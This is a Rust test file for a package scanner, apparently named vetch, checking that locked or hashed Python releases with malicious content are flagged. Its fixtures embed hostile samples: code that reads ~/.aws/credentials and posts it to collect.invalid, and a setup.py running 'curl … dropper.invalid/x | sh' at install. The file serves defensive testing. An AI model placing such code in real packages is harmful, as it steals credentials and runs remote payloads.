//! Python releases that are locked and not installed: from the index, from the user's archives, from earlier runs.

use serde_json::Value;
use vetch_testkit::{Project, ProjectBuilder, PyPkg, PythonIndex, Run, sha256};

use super::{incomplete, offline, says, scan, with_archives};
use crate::vetch;

const ADD: &str = "def add(a, b):\n    return a + b\n";

/// Reads credentials and sends them away. Inert: the host does not exist.
const THEFT: &str = "import os, urllib.request\n\
                     data = open(os.path.expanduser('~/.aws/credentials')).read()\n\
                     urllib.request.urlopen('http://collect.invalid/', data=data.encode())\n";

const TOOL: &str = "pkg:pypi/tool@1.0";

fn harmless() -> PyPkg {
    PyPkg::new("tool", "1.0").file("tool/__init__.py", ADD)
}

fn thief() -> PyPkg {
    PyPkg::new("tool", "1.0").file("tool/__init__.py", THEFT)
}

fn bare() -> ProjectBuilder {
    Project::builder("demo").no_lockfile().without("package.json")
}

/// A project that has locked this release with uv; its files lie below `files`.
fn uv(pkg: &PyPkg, files: &str) -> ProjectBuilder {
    let file = |(name, bytes): &(String, Vec<u8>)| {
        format!("{{ url = \"{files}{name}\", hash = \"sha256:{}\", size = {} }}", sha256(bytes), bytes.len())
    };
    let (wheels, sdists): (Vec<_>, Vec<_>) = pkg.artifacts().into_iter().partition(|(name, _)| name.ends_with(".whl"));
    let sdist = sdists.first().map(|one| format!("sdist = {}\n", file(one))).unwrap_or_default();
    let wheels: String = wheels.iter().map(|one| format!("    {},\n", file(one))).collect();
    let lock = format!(
        "version = 1\nrevision = 1\nrequires-python = \">=3.9\"\n\n\
         [[package]]\nname = \"app\"\nversion = \"0.1.0\"\nsource = {{ virtual = \".\" }}\n\
         dependencies = [{{ name = \"tool\" }}]\n\n\
         [package.metadata]\nrequires-dist = [{{ name = \"tool\", specifier = \"==1.0\" }}]\n\n\
         [[package]]\nname = \"tool\"\nversion = \"1.0\"\nsource = {{ registry = \"https://pypi.org/simple\" }}\n\
         {sdist}wheels = [\n{wheels}]\n"
    );
    let manifest = "[project]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"tool==1.0\"]\n";
    bare().file("pyproject.toml", manifest).file("uv.lock", lock)
}

/// `tool==1.0` with the hashes of all of its files.
fn hashed(pkg: &PyPkg, options: &str) -> ProjectBuilder {
    let hashes = pkg.artifacts().into_iter().map(|(_, bytes)| format!(" --hash=sha256:{}", sha256(&bytes)));
    bare().file("requirements.txt", format!("{options}tool==1.0{}\n", hashes.collect::<String>()))
}

fn index(pkg: PyPkg) -> PythonIndex {
    PythonIndex::builder().package(pkg).start()
}

/// With the network, and this index as the user's own.
fn online(project: &Project, index: &PythonIndex) -> Run {
    let run = scan(project, &["--format", "json", "--no-history"]);
    run.env("UV_DEFAULT_INDEX", index.url()).env("PIP_INDEX_URL", index.url()).run()
}

fn files_of(index: &PythonIndex) -> String {
    index.file_url("")
}

fn tool(run: &Run) -> Value {
    run.release(TOOL)
}

fn rules(run: &Run) -> Vec<String> {
    let findings = tool(run)["findings"].as_array().unwrap().clone();
    findings.iter().map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect()
}

/// Without the intelligence that nobody imported here.
fn unavailable(run: &Run) -> Vec<String> {
    let report = run.json();
    let all = report["unavailable"].as_array().into_iter().flatten();
    let ours = all.filter(|one| one["what"] != "threat intelligence");
    ours.map(|one| one["why"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn a_malicious_wheel_is_found_through_the_lockfile_and_known_the_next_time() {
    let index = index(thief());
    let project = uv(&thief(), &files_of(&index)).build();
    let run = online(&project, &index).expect(1);
    let found = tool(&run);
    assert_eq!(found["verdict"], "malicious", "{}", run.stdout);
    assert_eq!(found["paths"][0][0]["label"], "app@0.1.0");
    assert_eq!(found["paths"][0][1]["label"], "tool@1.0");
    assert_eq!(found["locations"][0]["file"], "uv.lock");
    assert!(found["content_hash"].is_string());
    assert_eq!(unavailable(&run), [] as [&str; 0]);
    // The wheel is what is installed; no page was needed.
    assert_eq!(index.paths(), [format!("/files/{}", thief().wheel_name())]);
    assert_eq!(tool(&offline(&project, &[]).expect(1)), found);
    assert_eq!(tool(&online(&project, &index).expect(1)), found);
    assert_eq!(index.paths().len(), 1);
}

#[test]
fn what_is_not_at_hand_offline_is_incomplete_unless_an_archive_is_handed_over() {
    let base = || uv(&thief(), "https://files.invalid/");
    let run = offline(&base().build(), &["--no-history"]).expect(3);
    says(&run, &["the contents of tool@1.0", "no local source"]);
    assert!(run.mentions("--archives") && run.mentions("--offline"), "{}", run.stdout);
    assert_eq!(unavailable(&run), [] as [&str; 0]);
    let wheel = base().archive_bytes(&thief().wheel_name(), thief().wheel()).build();
    assert_eq!(tool(&with_archives(&wheel).expect(1))["verdict"], "malicious");
    // The name that it has in the folder does not count, its hash does.
    let other = base().archive_bytes(&thief().wheel_name(), harmless().wheel()).build();
    says(&with_archives(&other).expect(3), &["the contents of tool@1.0"]);
}

#[test]
fn other_bytes_than_the_locked_ones_are_a_finding() {
    let index = index(thief());
    let project = uv(&harmless(), &files_of(&index)).build();
    let run = online(&project, &index).expect(1);
    assert_eq!(rules(&run), ["integrity-mismatch"], "{}", run.stdout);
}

#[test]
fn of_a_source_distribution_the_build_is_judged() {
    let setup =
        "import os\nos.system('curl -s http://dropper.invalid/x | sh')\nfrom setuptools import setup\nsetup()\n";
    let sdist = || PyPkg::new("tool", "1.0").file("tool/__init__.py", ADD).file("setup.py", setup).sdist_only();
    // What only wheels have makes no wheel of it.
    let disguised = sdist().file("tool-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tool\nVersion: 1.0\n");
    for pkg in [sdist(), disguised] {
        let index = index(pkg.clone());
        let run = online(&uv(&pkg, &files_of(&index)).build(), &index).expect(1);
        let found = tool(&run);
        assert_eq!(found["verdict"], "malicious", "{}", run.stdout);
        let capabilities = found["profile"]["capabilities"].as_array().unwrap();
        assert!(capabilities.iter().any(|one| one["trigger"] == "install"), "{capabilities:?}");
        let hashes_only = hashed(&pkg, "").build();
        assert_eq!(tool(&online(&hashes_only, &index).expect(1))["verdict"], "malicious");
    }
}

#[test]
fn hashes_alone_name_what_is_fetched_or_at_hand() {
    let index = index(thief());
    let project = hashed(&thief(), "").build();
    let run = online(&project, &index).expect(1);
    assert_eq!(tool(&run)["verdict"], "malicious", "{}", run.stdout);
    // Of both files that are allowed, the one that is installed.
    assert_eq!(index.paths(), [format!("/files/{}", thief().wheel_name()), "/simple/tool/".to_owned()]);
    assert_eq!(tool(&offline(&project, &[]).expect(1)), tool(&run));
    assert_eq!(tool(&online(&project, &index).expect(1)), tool(&run));
    assert_eq!(index.paths().len(), 2);
    let none = hashed(&thief(), "").build();
    says(&offline(&none, &[]).expect(3), &["the contents of tool@1.0"]);
    let sdist = hashed(&thief(), "").archive_bytes(&thief().sdist_name(), thief().sdist()).build();
    assert_eq!(tool(&with_archives(&sdist).expect(1))["verdict"], "malicious");
    // A release with these hashes that the index does not have.
    let gone = hashed(&harmless(), "").build();
    says(&online(&gone, &index).expect(3), &["the contents of tool@1.0", "no file"]);
}

#[test]
fn a_version_without_hashes_is_asked_for_and_else_listed() {
    let index = PythonIndex::builder().package(thief()).package(PyPkg::new("tool", "1.1")).start();
    let project = bare().file("requirements.txt", "tool==1.0.0\n").build();
    let run = online(&project, &index).expect(1);
    let found = run.release("pkg:pypi/tool@1.0.0");
    assert_eq!(found["verdict"], "malicious", "{}", run.stdout);
    assert_eq!(index.paths(), [format!("/files/{}", thief().wheel_name()), "/simple/tool/".to_owned()]);
    let run = offline(&project, &["--fail-on", "malicious", "--no-history"]).expect(0);
    assert_eq!(unavailable(&run).len(), 1, "{}", run.stdout);
    assert!(run.release("pkg:pypi/tool@1.0.0")["content_hash"].is_null());
}

/// A project that has locked this release with Poetry, from `source`.
fn poetry(pkg: &PyPkg, source: &str) -> ProjectBuilder {
    let file = |(name, bytes): (String, Vec<u8>)| {
        format!("    {{file = \"{name}\", hash = \"sha256:{}\"}},\n", sha256(&bytes))
    };
    let files: String = pkg.artifacts().into_iter().map(file).collect();
    let lock = format!(
        "[[package]]\nname = \"tool\"\nversion = \"1.0\"\ndescription = \"\"\noptional = false\npython-versions = \">=3.9\"\n\
         groups = [\"main\"]\nfiles = [\n{files}]\n{source}\n[metadata]\nlock-version = \"2.1\"\npython-versions = \">=3.9\"\n\
         content-hash = \"{}\"\n",
        "0".repeat(64)
    );
    let manifest =
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tool==1.0\"]\n";
    bare().file("pyproject.toml", manifest).file("poetry.lock", lock)
}

#[test]
fn a_private_index_is_asked_with_its_credentials_and_no_other_for_what_is_tied_to_it() {
    let private = PythonIndex::builder().package(thief()).authorization("Basic bWU6c3dvcmRmaXNo").start();
    let public = index(harmless());
    let source = format!(
        "\n[package.source]\ntype = \"legacy\"\nurl = \"{}\"\nreference = \"own\"\n",
        private.url().trim_end_matches('/')
    );
    let project = poetry(&thief(), &source).build();
    // The lockfile alone opens no way to a private address.
    let run = online(&project, &public).expect(3);
    says(&run, &["the contents of tool@1.0"]);
    assert_eq!((private.paths().len(), public.paths().len()), (0, 0), "{}", run.stdout);
    let own =
        scan(&project, &["--format", "json", "--no-history"]).env("PIP_INDEX_URL", private.url_with("me", "swordfish"));
    let run = own.run().expect(1);
    assert_eq!(tool(&run)["verdict"], "malicious", "{}", run.stdout);
    assert_eq!(private.paths(), [format!("/files/{}", thief().wheel_name()), "/simple/tool/".to_owned()]);
    run.never_mentions("swordfish");
}

#[test]
fn the_users_index_does_not_hear_of_what_a_requirements_file_takes_from_others() {
    let index = index(thief());
    let options = "--index-url https://one.invalid/simple\n--extra-index-url https://two.invalid/simple\n";
    let run = online(&hashed(&thief(), options).build(), &index).expect(3);
    says(&run, &["the contents of tool@1.0", "nothing says who"]);
    let unhashed = bare().file("requirements.txt", "--extra-index-url https://two.invalid/simple\ntool==1.0\n").build();
    assert_eq!(unavailable(&online(&unhashed, &index)).len(), 1);
    assert_eq!(index.paths(), [] as [&str; 0]);
}

#[test]
fn what_is_too_large_is_not_fetched() {
    let index = index(harmless());
    let base = uv(&harmless().wheel_only(), &files_of(&index));
    let size = format!("size = {} ", harmless().wheel().len());
    let project = base.build();
    project.write("uv.lock", project.read("uv.lock").replace(&size, "size = 999999999 "));
    let run = online(&project, &index).expect(3);
    says(&run, &["the contents of tool@1.0", "999999999 bytes, more than the limit"]);
    assert_eq!(index.paths(), [] as [&str; 0]);
}

#[test]
fn what_is_installed_is_judged_by_its_files_and_not_fetched() {
    let index = index(thief());
    let site = ".venv/lib/python3.12/site-packages";
    let base = uv(&thief(), &files_of(&index)).file(".venv/pyvenv.cfg", "home = /usr/bin\n");
    let mut project = base;
    let installed = vetch_testkit::SitePackages::new().install(&harmless());
    for path in ["tool/__init__.py", "tool-1.0.dist-info/METADATA", "tool-1.0.dist-info/RECORD"] {
        project = project.file(&format!("{site}/{path}"), std::fs::read(installed.folder().join(path)).unwrap());
    }
    let project = project.build();
    let run = online(&project, &index);
    assert_eq!(index.paths(), [] as [&str; 0]);
    assert_ne!(tool(&run)["verdict"], "malicious", "{}", run.stdout);
    assert!(tool(&run)["content_hash"].is_string());
    assert_eq!(unavailable(&run), [] as [&str; 0]);
    assert!(!incomplete(&run).iter().any(|text| text.contains("the contents of")), "{}", run.stdout);
}

#[test]
fn the_lock_of_behaviour_has_what_a_locked_release_can_do() {
    let sends = PyPkg::new("tool", "1.0")
        .file("tool/__init__.py", "import urllib.request\nurllib.request.urlopen('https://telemetry.invalid/v1')\n");
    let index = index(sends.clone());
    let project = uv(&sends, &files_of(&index)).build();
    let lock = vetch(&["lock"]).dir(project.root()).home(project.home()).env("UV_DEFAULT_INDEX", index.url());
    lock.run().expect(0);
    let text = project.read("vetch.lock");
    assert!(text.contains(TOOL) && text.contains("telemetry.invalid"), "{text}");
    assert!(!text.contains("unavailable"), "{text}");
}
